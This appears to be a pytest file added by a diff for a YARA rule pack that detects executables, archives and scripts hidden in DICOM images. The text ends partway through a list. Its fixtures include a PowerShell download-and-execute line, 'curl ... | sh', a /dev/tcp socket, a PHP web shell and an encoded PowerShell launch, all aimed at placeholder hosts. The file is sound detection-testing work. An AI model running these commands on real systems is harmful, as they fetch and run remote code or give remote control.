@@ -1,0 +1,757 @@
+"""The rule pack and its validators: what fires, what must not, and that nothing breaks them."""
+
+from __future__ import annotations
+
+import base64
+import io
+import mmap
+import struct
+import sys
+import sysconfig
+import tempfile
+import zipapp
+import zipfile
+import zlib
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from functools import cache
+from pathlib import Path
+
+import pypdf
+import pytest
+import yara_x
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from dicomguard.model import Category, Confidence, Severity
+from dicomguard.payloads import VALIDATORS, Payload
+
+RULES = Path(__file__).parents[1] / "rules"
+PLACES = {"file", "preamble", "meta", "text", "private", "document", "nonpixel", "tail"}
+REQUIRED_META = {
+    "id", "title", "category", "severity", "confidence", "where", "attack", "reference", "why",
+}  # fmt: skip
+OPTIONAL_META = {"validator", "polyglot", "polyglot_severity", "not_in"}
+
+
+# --- running the pack -----------------------------------------------------------------------------
+
+
+@cache
+def pack() -> yara_x.Rules:
+    compiler = yara_x.Compiler()
+    for path in sorted(RULES.glob("*.yar")):
+        compiler.add_source(path.read_text())
+    return compiler.build()
+
+
+@cache
+def metas() -> dict[str, dict[str, str]]:
+    return {rule.identifier: dict(rule.metadata) for rule in pack()}
+
+
+def triggers(data: bytes) -> Iterator[tuple[str, int, int]]:
+    """Rule, offset and length of every match."""
+    scanner = yara_x.Scanner(pack())
+    for rule in scanner.scan(data).matching_rules:
+        for pattern in rule.patterns:
+            for match in pattern.matches:
+                yield rule.identifier, match.offset, match.length
+
+
+@dataclass(frozen=True)
+class Hit:
+    rule: str
+    id: str
+    payload: Payload
+
+
+def findings(data: bytes, low: int = 0, high: int | None = None) -> list[Hit]:
+    """What the pack says of one value ``[low, high)`` of the data, validators included."""
+    high = len(data) if high is None else high
+    found = []
+    for rule, offset, length in triggers(data):
+        if not low <= offset < high:
+            continue
+        meta = metas()[rule]
+        if "validator" not in meta:
+            found.append(
+                Hit(
+                    rule,
+                    meta["id"],
+                    Payload(start=offset, end=offset + length, description="", confirmed=False),
+                )
+            )
+            continue
+        payload = VALIDATORS[meta["validator"]](data, offset, low, high)
+        if payload is not None:
+            whole = payload.whole_file and "polyglot" in meta
+            found.append(Hit(rule, meta["polyglot"] if whole else meta["id"], payload))
+    return found
+
+
+# --- real files -----------------------------------------------------------------------------------
+
+
+def site_packages() -> Path:
+    return Path(sysconfig.get_path("purelib"))
+
+
+def real_pe(name: str = "distlib/t64.exe") -> bytes:
+    return (site_packages() / name).read_bytes()
+
+
+def real_elf() -> bytes:
+    return Path(sys.executable).resolve().read_bytes()
+
+
+def make_zip(*names: str, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression) as archive:
+        for name in names:
+            archive.writestr(name, f"content of {name}\n" * 3)
+    return buffer.getvalue()
+
+
+def make_zipapp() -> bytes:
+    with tempfile.TemporaryDirectory() as folder:
+        source, target = Path(folder, "app"), Path(folder, "app.pyz")
+        source.mkdir()
+        (source / "__main__.py").write_text("print('run')\n")
+        zipapp.create_archive(source, target)
+        return target.read_bytes()
+
+
+def make_zip64() -> bytes:
+    """A ZIP as Python writes it for more members than 16 bits count."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for number in range(0x10000):
+            archive.writestr(zipfile.ZipInfo(f"{number}"), b"")
+    return buffer.getvalue()
+
+
+def make_pdf() -> bytes:
+    writer = pypdf.PdfWriter()
+    writer.add_blank_page(width=72, height=72)
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+# --- formats with no real file at hand: the least that their specification asks for --------------
+
+
+def make_elf32_big_endian(*, ident: bytes = b"\1\2\1") -> bytes:
+    header = (
+        b"\x7fELF"
+        + ident.ljust(12, b"\0")
+        + struct.pack(">2H5I6H", 2, 8, 1, 0x1000, 52, 0, 0, 52, 32, 1, 40, 0, 0)
+    )  # e_type EXEC, e_machine MIPS, version, entry, phoff, shoff, flags; then the sizes and counts
+    load = struct.pack(">8I", 1, 0, 0x1000, 0x1000, 100, 100, 5, 0x1000)  # PT_LOAD, p_filesz 100
+    return (header + load).ljust(100, b"\xcc")
+
+
+def make_elf_object() -> bytes:
+    """A relocatable object or kernel module: sections and no program header."""
+    header = b"\x7fELF\2\1\1".ljust(16, b"\0") + struct.pack(
+        "<2HI3QI6H", 1, 62, 1, 0, 0, 64, 0, 64, 0, 0, 64, 2, 1
+    )
+    return header + bytes(2 * 64)
+
+
+def make_macho(order: str = "<", *, wide: bool = True) -> bytes:
+    """A Mach-O executable with one segment of 0x200 bytes and nothing else."""
+    command = struct.pack(
+        order + ("2I16s4Q4I" if wide else "2I16s8I"),
+        0x19 if wide else 0x01,
+        72 if wide else 56,
+        b"__TEXT",
+        *(0x1000, 0x1000, 0, 0x200),  # vmaddr, vmsize, fileoff, filesize
+        *(5, 5, 0, 0),
+    )
+    magic = 0xFEEDFACF if wide else 0xFEEDFACE
+    cpu = 0x0100000C if wide else 18
+    header = struct.pack(order + "7I", magic, cpu, 0, 2, 1, len(command), 0)
+    return (header + bytes(4 if wide else 0) + command).ljust(0x200, b"\xcc")
+
+
+def make_universal(magic: bytes = b"\xca\xfe\xba\xbe") -> bytes:
+    thin = make_macho()
+    wide = magic.endswith(b"\xbf")
+    slices = struct.pack(
+        ">2I2QII" if wide else ">5I", 0x0100000C, 0, 0x100, len(thin), 12, *((0,) if wide else ())
+    )
+    return (magic + struct.pack(">I", 1) + slices).ljust(0x100, b"\0") + thin
+
+
+def make_class(*, major: int = 61) -> bytes:
+    """``class A extends java.lang.Object`` with a long constant and one source attribute."""
+
+    def utf8(text: bytes) -> bytes:
+        return b"\1" + struct.pack(">H", len(text)) + text
+
+    constants = [
+        b"\7" + struct.pack(">H", 2), utf8(b"A"),  # 1, 2
+        b"\7" + struct.pack(">H", 4), utf8(b"java/lang/Object"),  # 3, 4
+        utf8(b"SourceFile"), utf8(b"A.java"),  # 5, 6
+        b"\5" + bytes(8),  # 7 and 8: a long takes two slots
+    ]  # fmt: skip
+    pool = struct.pack(">H", 9) + b"".join(constants)
+    attribute = struct.pack(">HIH", 5, 2, 6)
+    members = struct.pack(">6H", 0x21, 1, 3, 0, 0, 0)  # flags, this, super, interfaces, members
+    return (b"\xca\xfe\xba\xbe" + struct.pack(">2H", 0, major) + pool + members
+            + struct.pack(">H", 1) + attribute)  # fmt: skip
+
+
+LNK_ID = bytes.fromhex("4c0000000114020000000000c000000000000046")
+
+
+def make_lnk(*, flags: int = 0xA0, reserved: int = 0) -> bytes:
+    """A shortcut with command-line arguments in Unicode and the terminal block."""
+    header = LNK_ID + struct.pack("<2I24x3I2H2I", flags, 0x20, 0, 0, 1, 0, 0, reserved, 0)
+    arguments = "/c calc".encode("utf-16-le")
+    return header + struct.pack("<H", len(arguments) // 2) + arguments + bytes(4)
+
+
+def make_rar4() -> bytes:
+    def block(kind: int, flags: int, rest: bytes = b"") -> bytes:
+        body = struct.pack("<B2H", kind, flags, 7 + len(rest)) + rest
+        return struct.pack("<H", zlib.crc32(body) & 0xFFFF) + body
+
+    file = block(0x74, 0x8000, struct.pack("<I", 3) + b"name") + b"abc"  # with three bytes of data
+    return b"Rar!\x1a\x07\x00" + block(0x73, 0, bytes(6)) + file + block(0x7B, 0x4000)
+
+
+def make_rar5() -> bytes:
+    def block(content: bytes) -> bytes:
+        body = bytes([len(content)]) + content
+        return struct.pack("<I", zlib.crc32(body)) + body
+
+    main = block(bytes([1, 0, 0]))
+    file = block(bytes([2, 2, 0x80 | 3, 0]) + b"name") + b"abc"  # data size 3 in a padded vint
+    return b"Rar!\x1a\x07\x01\x00" + main + file + block(bytes([5, 0, 0]))
+
+
+def make_7z() -> bytes:
+    start = struct.pack("<2QI", 5, 7, 0)  # NextHeaderOffset, NextHeaderSize, NextHeaderCRC
+    return b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<I", zlib.crc32(start)) + start + bytes(12)
+
+
+def make_cab(*, version: bytes = b"\3\1", folder: int = 0) -> bytes:
+    entry = struct.pack("<2I4H", 5, 0, folder, 0, 0, 0x20) + b"a.exe\0"  # CFFILE
+    body = struct.pack("<I2H", 70, 1, 0) + entry + b"\0" * 16  # CFFOLDER, then a data block
+    return (b"MSCF" + struct.pack("<5I", 0, 36 + len(body), 0, 44, 0) + version
+            + struct.pack("<5H", 1, 1, 0, 0, 0) + body)  # fmt: skip
+
+
+def make_ole(*, byte_order: int = 0xFFFE, stream: str = "WordDocument") -> bytes:
+    """A compound file of a header and one directory sector (root entry and one stream)."""
+
+    def entry(name: str, kind: int) -> bytes:
+        encoded = name.encode("utf-16-le")
+        return encoded.ljust(64, b"\0") + struct.pack("<HB61x", len(encoded) + 2, kind)
+
+    header = (
+        bytes.fromhex("d0cf11e0a1b11ae1")
+        + bytes(16)
+        + struct.pack("<5H6x4I", 0x3E, 3, byte_order, 9, 6, 0, 1, 0, 0)
+    )  # versions, byte order, shifts; directory sectors, FAT sectors, directory start, transaction
+    return header.ljust(512, b"\xff") + (entry("Root Entry", 5) + entry(stream, 2)).ljust(
+        512, b"\0"
+    )
+
+
+EICAR = bytes.fromhex(
+    "58354f2150254041505b345c505a58353428505e2937434329377d24"
+    "45494341522d5354414e444152442d414e544956495255532d544553542d46494c4521"
+    "24482b482a"
+)
+STUB = b"This program cannot be run in DOS mode"
+POWERSHELL = b"$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://h/a'))\r\n"
+
+
+def xor(data: bytes, key: int) -> bytes:
+    return bytes(byte ^ key for byte in data)
+
+
+# --- what fires -----------------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class Sample:
+    """Bytes that are something, and what is said of them alone and inside other data."""
+
+    rule: str
+    make: Callable[[], bytes]
+    whole: str
+    inside: str
+    words: str
+
+
+SAMPLES = {
+    "pe-x64": Sample("pe", real_pe, "POLY-PE", "EMB-PE", "PE32+ executable, x86-64, 6 sections"),
+    "pe-x86": Sample("pe", lambda: real_pe("setuptools/cli-32.exe"), "POLY-PE", "EMB-PE",
+                     "PE32 executable, x86, 3 sections"),
+    "pe-arm": Sample("pe", lambda: real_pe("distlib/t64-arm.exe"), "POLY-PE", "EMB-PE", "ARM64"),
+    "elf-real": Sample("elf", real_elf, "POLY-ELF", "EMB-ELF", "ELF 64-bit"),
+    "elf-mips": Sample("elf", make_elf32_big_endian, "POLY-ELF", "EMB-ELF",
+                       "ELF 32-bit MSB executable, MIPS"),
+    "elf-golfed": Sample("elf", lambda: make_elf32_big_endian(ident=b"\xff\xff\xff"), "POLY-ELF",
+                         "EMB-ELF", "MIPS"),
+    "elf-object": Sample("elf", make_elf_object, "POLY-ELF", "EMB-ELF", "object, x86-64"),
+    "macho-64": Sample("macho", make_macho, "POLY-MACHO", "EMB-MACHO", "Mach-O executable, ARM64"),
+    "macho-32-be": Sample("macho", lambda: make_macho(">", wide=False), "POLY-MACHO", "EMB-MACHO",
+                          "Mach-O executable, PowerPC"),
+    "macho-64-be": Sample("macho", lambda: make_macho(">"), "POLY-MACHO", "EMB-MACHO", "ARM64"),
+    "macho-32": Sample("macho", lambda: make_macho(wide=False), "POLY-MACHO", "EMB-MACHO",
+                       "PowerPC"),
+    "universal": Sample("macho", make_universal, "POLY-MACHO", "EMB-MACHO",
+                        "Mach-O universal binary, ARM64"),
+    "universal-64": Sample("macho", lambda: make_universal(b"\xca\xfe\xba\xbf"), "POLY-MACHO",
+                           "EMB-MACHO", "universal"),
+    "class": Sample("java_class", make_class, "POLY-JAVA", "EMB-CLASS", "version 61"),
+    "lnk": Sample("lnk", make_lnk, "POLY-LNK", "EMB-LNK",
+                  "Windows shortcut with command-line arguments"),
+    "zip": Sample("zip", lambda: make_zip("a.txt", "b.txt"), "POLY-ZIP", "EMB-ARCHIVE",
+                  "ZIP archive, 2 members"),
+    "zip64": Sample("zip", make_zip64, "POLY-ZIP", "EMB-ARCHIVE", "65536 members"),
+    "docm": Sample("zip", lambda: make_zip("word/document.xml", "word/vbaProject.bin"), "POLY-ZIP",
+                   "EMB-ARCHIVE", "Word document with macros"),
+    "xlsx": Sample("zip", lambda: make_zip("xl/workbook.xml"), "POLY-ZIP", "EMB-ARCHIVE", "Excel"),
+    "odt": Sample("zip", lambda: make_zip("mimetype", "content.xml"), "POLY-ZIP", "EMB-ARCHIVE",
+                  "OpenDocument file"),
+    "torch": Sample("zip", lambda: make_zip("model/data.pkl"), "POLY-ZIP", "EMB-ARCHIVE",
+                    "PyTorch"),
+    "jar": Sample("jar", lambda: make_zip("META-INF/MANIFEST.MF", "A.class"), "POLY-JAR",
+                  "EMB-JAR", "Java archive (JAR), 2 members"),
+    "apk": Sample("jar", lambda: make_zip("AndroidManifest.xml", "classes.dex"), "POLY-JAR",
+                  "EMB-JAR", "Android application"),
+    "zipapp": Sample("jar", make_zipapp, "POLY-JAR", "EMB-JAR", "Python application"),
+    "rar4": Sample("rar", make_rar4, "POLY-RAR", "POLY-RAR", "RAR 4 archive"),
+    "rar5": Sample("rar", make_rar5, "POLY-RAR", "POLY-RAR", "RAR 5 archive"),
+    "7z": Sample("sevenzip", make_7z, "POLY-7Z", "EMB-ARCHIVE", "7z archive"),
+    "cab": Sample("cab", make_cab, "POLY-CAB", "EMB-ARCHIVE", "Windows cabinet, 1 file"),
+    "pdf": Sample("pdf", make_pdf, "POLY-PDF", "EMB-PDF", "PDF 1.3 document"),
+    "ole": Sample("ole", make_ole, "POLY-OLE", "EMB-OLE", "Word document"),
+    "shebang": Sample("shebang", lambda: b"#!/bin/sh\nexit 7\n", "POLY-SCRIPT-SHEBANG",
+                      "EMB-SCRIPT", "script for sh"),
+    "shebang-env": Sample("shebang", lambda: b"#! \t /usr/bin/env python3 -u\nprint(1)\n",
+                          "POLY-SCRIPT-SHEBANG", "EMB-SCRIPT", "script for env"),
+    "powershell": Sample("powershell", lambda: POWERSHELL, "POLY-SCRIPT-NOSHEBANG", "EMB-SCRIPT",
+                         "PowerShell script"),
+    "powershell-enc": Sample("powershell", lambda: b"powershell.exe -nop -enc SQBFAFgA",
+                             "POLY-SCRIPT-NOSHEBANG", "EMB-SCRIPT", "PowerShell script"),
+    "powershell-utf16": Sample("powershell", lambda: POWERSHELL.decode().encode("utf-16"),
+                               "POLY-SCRIPT-NOSHEBANG", "EMB-SCRIPT", "in UTF-16"),
+    "batch": Sample("batch", lambda: b"@echo off\r\nstart calc\r\n", "POLY-SCRIPT-NOSHEBANG",
+                    "EMB-SCRIPT", "batch script"),
+    "batch-words": Sample("batch", lambda: b"cmd.exe /c certutil -decode a %TEMP%\\a.exe",
+                          "POLY-SCRIPT-NOSHEBANG", "EMB-SCRIPT", "batch script"),
+    "vbs": Sample("windows_script", lambda: b'CreateObject("WScript.Shell").Run "calc"',
+                  "POLY-SCRIPT-NOSHEBANG", "EMB-SCRIPT", "Windows Script Host script"),
+    "html": Sample("html_script", lambda: b'<html><script language="VBScript">x</script>',
+                   "POLY-SCRIPT-NOSHEBANG", "EMB-SCRIPT", "HTML with script"),
+    "html-words": Sample("html_script", lambda: b"<b><script>alert(1)</script>",
+                         "POLY-SCRIPT-NOSHEBANG", "EMB-SCRIPT", "HTML with script"),
+    "hta": Sample("html_script", lambda: b"<HTA:APPLICATION id=a>", "POLY-SCRIPT-NOSHEBANG",
+                  "EMB-SCRIPT", "HTML with script"),
+    "php": Sample("php", lambda: b"<?php system($_GET['c']); ?>", "POLY-SCRIPT-NOSHEBANG",
+                  "EMB-SCRIPT", "PHP script"),
+    "shell": Sample("shell", lambda: b"curl http://h/a | sh\n", "POLY-SCRIPT-NOSHEBANG",
+                    "EMB-SCRIPT", "shell script"),
+    "shell-tcp": Sample("shell", lambda: b"exec 3<>/dev/tcp/192.0.2.1/80", "POLY-SCRIPT-NOSHEBANG",
+                        "EMB-SCRIPT", "shell script"),
+}  # fmt: skip
+
+FRONT = b"\0\xff\0\x01" * 500
+BACK = b"\x01\0\xff\0" * 25
+
+
+def finding(data: bytes, rule: str, low: int = 0, high: int | None = None) -> Hit:
+    """The outermost finding of one rule."""
+    return min(
+        (hit for hit in findings(data, low, high) if hit.rule == rule),
+        key=lambda hit: hit.payload.start,
+    )
+
+
+@pytest.mark.parametrize("sample", SAMPLES.values(), ids=SAMPLES)
+def test_a_file_that_is_one_takes_the_polyglot_id_and_its_true_extent(sample: Sample) -> None:
+    data = sample.make()
+    hit = finding(data, sample.rule)
+    assert hit.id == sample.whole
+    assert sample.words in hit.payload.description
+    assert (hit.payload.start, hit.payload.end) == (0, len(data))
+
+
+@pytest.mark.parametrize("sample", SAMPLES.values(), ids=SAMPLES)
+def test_inside_a_value_it_is_found_with_the_same_extent(sample: Sample) -> None:
+    content = sample.make()
+    data = FRONT + content + BACK
+    low, high = len(FRONT), len(FRONT) + len(content)
+    hit = finding(data, sample.rule, low, high)
+    assert hit.id == sample.inside
+    assert sample.words in hit.payload.description
+    assert (hit.payload.start, hit.payload.end) == (low, high)
+
+
+@pytest.mark.parametrize("sample", SAMPLES.values(), ids=SAMPLES)
+def test_a_mapped_file_gives_the_same_answers(sample: Sample, tmp_path: Path) -> None:
+    data = FRONT + sample.make() + BACK
+    path = tmp_path / "data"
+    path.write_bytes(data)
+    meta = metas()[sample.rule]
+    validator = VALIDATORS[meta["validator"]]
+    with path.open("rb") as file, mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ) as mapped:
+        for rule, offset, _ in triggers(data):
+            if rule == sample.rule:
+                assert validator(mapped, offset, len(FRONT), len(data)) == validator(
+                    data, offset, len(FRONT), len(data)
+                )
+
+
+def test_a_program_cut_short_is_still_found_and_stays_within_the_data() -> None:
+    for rule, content in (("pe", real_pe()), ("elf", make_elf32_big_endian()), ("lnk", make_lnk())):
+        data = content[: len(content) * 7 // 8]
+        assert finding(data, rule).payload.end == len(data)
+
+
+# --- PE and its traces ----------------------------------------------------------------------------
+
+
+def pe_header(data: bytes) -> int:
+    return int(struct.unpack_from("<I", data, 0x3C)[0])
+
+
+def spread_pe(gap: bytes) -> bytes:
+    """A PE polyglot: the MZ header in the preamble, the PE header behind ``gap``."""
+    original = real_pe()
+    nt = pe_header(original)
+    header = bytearray(original[:128])
+    struct.pack_into("<I", header, 0x3C, 128 + len(gap))
+    return bytes(header) + gap + original[nt:]
+
+
+def test_a_pe_header_far_from_its_mz_header_is_a_polyglot_whatever_lies_between() -> None:
+    for gap in (b"\0" * 300_000, b"MZ" * 100_000):
+        hit = finding(spread_pe(gap), "pe")
+        assert (hit.id, hit.payload.start) == ("POLY-PE", 0)
+        assert hit.payload.confirmed
+
+
+def test_a_pe_inside_a_value_is_found_behind_its_own_front_matter() -> None:
+    data = FRONT + b"front matter" + real_pe()
+    hit = finding(data, "pe", len(FRONT))
+    assert (hit.id, hit.payload.start) == ("EMB-PE", len(FRONT) + 12)
+
+
+def test_a_pe_without_its_mz_header_is_found_but_not_confirmed() -> None:
+    data = FRONT + real_pe()[2:]
+    hit = finding(data, "pe")
+    assert (hit.id, hit.payload.confirmed) == ("EMB-PE", False)
+    assert hit.payload.description.endswith("without its MZ header")
+
+
+def test_the_dos_stub_speaks_only_where_no_pe_does() -> None:
+    original = real_pe()
+    assert {hit.rule for hit in findings(original)} == {"pe"}
+    broken = bytearray(original)
+    broken[pe_header(original)] ^= 0xFF
+    assert {hit.id for hit in findings(bytes(broken))} == {"EMB-DOS-STUB"}
+    for sentence in (STUB, b"This program must be run under Win32"):
+        (hit,) = findings(FRONT + sentence)
+        assert (hit.id, hit.payload.start) == ("EMB-DOS-STUB", len(FRONT))
+
+
+@pytest.mark.parametrize("key", [0x01, 0x20, 0x5A, 0xFF])
+def test_a_pe_under_xor_is_found_whole_and_the_stub_alone_unconfirmed(key: int) -> None:
+    program = xor(real_pe(), key)
+    (hit,) = findings(FRONT + program + BACK)
+    assert hit.id == "EMB-ENC-XOR"
+    assert (hit.payload.start, hit.payload.end) == (len(FRONT), len(FRONT) + len(program))
+    assert hit.payload.description.endswith(f"6 sections, XORed with 0x{key:02X}")
+    assert hit.payload.confirmed
+    (hit,) = findings(FRONT + xor(STUB, key))
+    assert (hit.id, hit.payload.confirmed) == ("EMB-ENC-XOR", False)
+
+
+@pytest.mark.parametrize("shift", [0, 1, 2])
+def test_a_program_in_base64_is_found_at_any_alignment(shift: int) -> None:
+    for program in (real_pe()[:4096], real_elf()[:4096]):
+        encoded = base64.b64encode(bytes(shift) + program)
+        found = {hit.id for hit in findings(FRONT + encoded)}
+        # The start of an ELF shows only where the encoder started with it.
+        assert found == ({"EMB-ENC-B64"} if shift == 0 or STUB in program else set())
+
+
+def test_eicar_is_found_anywhere_and_not_in_our_own_rules() -> None:
+    (hit,) = findings(FRONT + EICAR + BACK)
+    assert (hit.id, hit.payload.start, hit.payload.end) == ("EMB-EICAR", 2000, 2068)
+    assert not any(EICAR in path.read_bytes() for path in RULES.iterdir())
+    assert findings(EICAR.replace(b"EICAR", b"EICAS")) == []
+
+
+# --- archives and documents -----------------------------------------------------------------------
+
+
+def test_a_zip_at_the_end_of_a_file_is_a_polyglot_by_either_convention_of_offsets() -> None:
+    relative = FRONT + make_zip("a.txt", "b.txt")  # offsets from the start of the archive
+    buffer = io.BytesIO(FRONT)
+    with zipfile.ZipFile(buffer, "a") as archive:  # offsets from the start of the file
+        archive.writestr("a.txt", "content")
+    for data in (relative, buffer.getvalue(), relative + bytes(3)):
+        assert zipfile.is_zipfile(io.BytesIO(data))
+        hit = finding(data, "zip")
+        assert (hit.id, hit.payload.start) == ("POLY-ZIP", len(FRONT))
+        assert hit.payload.end == data.rindex(b"PK\5\6") + 22
+
+
+def test_an_encrypted_member_is_named() -> None:
+    data = bytearray(make_zip("a.txt"))
+    data[data.index(b"PK\1\2") + 8] |= 1
+    assert finding(bytes(data), "zip").payload.description == "ZIP archive, 1 member, encrypted"
+
+
+def test_a_rar_beyond_the_reach_of_readers_is_only_embedded() -> None:
+    assert finding(bytes(1 << 20) + make_rar5(), "rar").id == "EMB-ARCHIVE"
+
+
+def test_a_pdf_is_a_polyglot_in_the_first_1024_bytes_only() -> None:
+    for front, expected in ((0, "POLY-PDF"), (1023, "POLY-PDF"), (1024, "EMB-PDF")):
+        assert finding(bytes(front) + make_pdf() + BACK * 100, "pdf").id == expected
+
+
+def test_a_pdf_whose_objects_lie_far_behind_is_a_polyglot_but_no_payload_elsewhere() -> None:
+    spread = b"%PDF-1.7\n" + bytes(100_000) + b"\n1 0 obj\n<<>>\nendobj\n" + bytes(5000)
+    assert finding(bytes(132) + spread, "pdf").id == "POLY-PDF"
+    assert findings(bytes(2000) + spread) == []
+
+
+def test_an_installer_and_macros_are_named() -> None:
+    installer = bytearray(make_ole())
+    installer[512 + 80 : 512 + 96] = bytes.fromhex("84100c0000000000c000000000000046")
+    assert finding(bytes(installer), "ole").payload.description == "Windows Installer package"
+    macros = make_ole(stream="_VBA_PROJECT_CUR")
+    assert finding(macros, "ole").payload.description == "OLE compound file with macros"
+
+
+def test_an_ole_header_whose_directory_is_missing_is_not_confirmed() -> None:
+    hit = finding(make_ole()[:512], "ole")
+    assert (hit.payload.confirmed, hit.payload.description) == (False, "OLE compound file")
+
+
+def test_a_shortcut_with_reserved_fields_in_use_is_not_confirmed() -> None:
+    assert not finding(make_lnk(reserved=1), "lnk").payload.confirmed
+
+
+# --- what must not fire ---------------------------------------------------------------------------
+
+
+def altered(data: bytes, offset: int, new: bytes) -> bytes:
+    return data[:offset] + new + data[offset + len(new) :]
+
+
+# Each has a trigger of its rule in it, which the validator must refuse.
+NEAR_MISSES: dict[str, tuple[str, bytes]] = {
+    "pe: no optional header": ("pe", b"MZ" + bytes(500) + b"PE\0\0\x4c\1" + bytes(500)),
+    "pe: an object's characteristics": (
+        "pe", altered(real_pe(), pe_header(real_pe()) + 22, b"\0\0"),
+    ),
+    "pe: no sections": ("pe", altered(real_pe(), pe_header(real_pe()) + 6, b"\0\0")),
+    "elf: magic alone": ("elf", b"\x7fELF" + bytes(200)),
+    "elf: unknown machine": ("elf", altered(make_elf32_big_endian(), 18, b"\x7f\x7f")),
+    "elf: program headers of odd size": ("elf", altered(make_elf32_big_endian(), 42, b"\0\x21")),
+    "elf: program headers past the end": ("elf", make_elf32_big_endian()[:60]),
+    "macho: magic alone": ("macho", b"\xcf\xfa\xed\xfe" + bytes(100)),
+    "macho: unknown processor": ("macho", altered(make_macho(), 4, b"\x63\0\0\0")),
+    "macho: a command longer than all": ("macho", altered(make_macho(), 36, b"\xff\xff\0\0")),
+    "universal: a slice that is none": ("macho", altered(make_universal(), 0x100, bytes(4))),
+    "universal: a Java class": ("macho", make_class()),
+    "class: a universal Mach-O": ("java_class", make_universal()),
+    "class: unknown constant": ("java_class", altered(make_class(), 10, b"\2")),
+    "class: pool past the end": ("java_class", make_class()[:40]),
+    "lnk: undefined flags": ("lnk", make_lnk(flags=0xF80000A0)),
+    "lnk: cut short": ("lnk", make_lnk()[:70]),
+    "zip: end record of nothing": ("zip", b"PK\5\6" + bytes(18)),
+    "zip: end record alone": ("zip", make_zip("a")[-22:]),
+    "zip: directory without local header": (
+        "zip", make_zip("a").replace(b"PK\3\4", b"PK\3\5"),
+    ),
+    "zip: local header of another name": ("zip", altered(make_zip("a"), 30, b"b")),
+    "zip: comment past the end": ("zip", altered(make_zip("a"), len(make_zip("a")) - 2, b"\1\0")),
+    "zip: a JAR": ("zip", make_zip("META-INF/MANIFEST.MF")),
+    "zip: ZIP64 locator to nowhere": ("zip", make_zip64().replace(b"PK\6\6", b"PK\6\5")),
+    "jar: a plain ZIP": ("jar", make_zip("META-INF/manifest.xml")),
+    "rar4: wrong checksum": ("rar", altered(make_rar4(), 7, b"\0\0")),
+    "rar5: wrong checksum": ("rar", altered(make_rar5(), 8, b"\0\0")),
+    "7z: wrong checksum": ("sevenzip", altered(make_7z(), 8, b"\0\0")),
+    "cab: unknown version": ("cab", make_cab(version=b"\3\2")),
+    "cab: a file in no folder": ("cab", make_cab(folder=7)),
+    "cab: longer than the data": ("cab", make_cab()[:-1]),
+    "pdf: header alone": ("pdf", b"%PDF-1.7 is the format of the report"),
+    "pdf: an object by name only": ("pdf", b"%PDF-1.7 object, 1 0 objects, 10obj"),
+    "ole: wrong byte order": ("ole", make_ole(byte_order=0xFEFF)),
+    "shebang: not at the start": ("shebang", b"note: #!/bin/sh\n"),
+    "shebang: binary": ("shebang", b"#!/2CLIJ\x1d7.66\t0Si/\x14'4E\x0c#"),
+    "powershell: mentioned": ("powershell", b"Please run powershell - then call IT"),
+    "powershell: one word twice": ("powershell", b"DownloadString( DownloadFile("),
+    "batch: one word": ("batch", b"path is %TEMP%\\export"),
+    "vbs: one word": ("windows_script", b"CreateObject failed"),
+    "html: an element of XML": ("html_script", b'<?xml version="1.0"?><ScriptName>a</ScriptName>'),
+    "html: a link": ("html_script", b"javascript:void 0"),
+    "php: an XML target": ("php", b"<?phpdoc version='1'?>"),
+    "shell: one word": ("shell", b"see curl http://example.org/manual"),
+    "shell: a device": ("shell", b"/dev/tcp/ is not a file"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("rule", "data"), NEAR_MISSES.values(), ids=NEAR_MISSES)
+def test_a_near_miss_triggers_and_is_refused(rule: str, data: bytes) -> None:
+    assert rule in {name for name, _, _ in triggers(data)}
+    assert [hit for hit in findings(data) if hit.rule == rule] == []
+
+
+HONEST = {
+    "MZ in noise": b"MZ\x90\0" * 50,
+    "Siemens CSA": b"SV10\4\3\2\1" + bytes(64) + b"XSPE\0\0\x4c\1" + bytes(100),
+    "GE protocol block": struct.pack("<I", 40) + b"\x1f\x8b\x08\x08" + bytes(36),
+    "local header alone": b"PK\3\4" + bytes(60),
+    "XProtocol": b'<XProtocol> { <Name> "PhoenixMetaProtocol" <ParamBool."IsInlineComposed"> { } }',
+    "vendor XML": b'<?xml version="1.0"?><Path>C:\\MRMPlus\\tmp\\current_file</Path>',
+    "GE JSON": b'{"ver":1,"grx":[{"typ":"eval","fn":"new-object"}]}',
+    "text": b"Observer's Name: O'Brien; > 18 yrs; SAG > TRA-1.5 > COR-0.3 <MPR Collection>",
+    "address": b"https://github.com/fedorov/dcmqi.git",
+    "Siemens program": b"MosaicDecorator.EXE xmlns='http://schemas.microsoft.com/winfx/2006/xaml'",
+    "plain text in Base64": base64.b64encode(b"The quick brown fox jumps over the lazy dog" * 5),
+    "the stub with another ending": b"This program cannot be run in DOS box",
+}
+
+
+@pytest.mark.parametrize("data", HONEST.values(), ids=HONEST)
+def test_honest_bytes_stay_silent(data: bytes) -> None:
+    assert findings(data) == []
+
+
+def test_two_words_in_different_values_are_no_script() -> None:
+    one, other = b"see %TEMP%\\export", b"cmd.exe /c dir"
+    assert findings(one + other, 0, len(one)) == []
+    assert {hit.id for hit in findings(one + other)} == {"POLY-SCRIPT-NOSHEBANG"}
+
+
+# --- nothing breaks a validator -------------------------------------------------------------------
+
+MAGICS = [
+    b"MZ", b"PE\0\0\x4c\1", b"\x7fELF", b"\xfe\xed\xfa\xcf", b"\xca\xfe\xba\xbe", LNK_ID,
+    b"PK\5\6", b"PK\6\6", b"PK\6\7", b"PK\1\2", b"PK\3\4", b"Rar!\x1a\x07\x00",
+    b"Rar!\x1a\x07\x01\x00", b"7z\xbc\xaf\x27\x1c", b"MSCF" + bytes(4), b"%PDF-", b" 0 obj",
+    b"%%EOF", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"#!/bin/sh", STUB, xor(STUB, 7), b"<?php ",
+    b"<script>", b"eval(", b"@echo off\n", b"New-Object ", b"N\0e\0w\0-\0O\0b\0j\0e\0c\0t\0 \0",
+    b"\xff" * 8,
+]  # fmt: skip
+SMALL = [
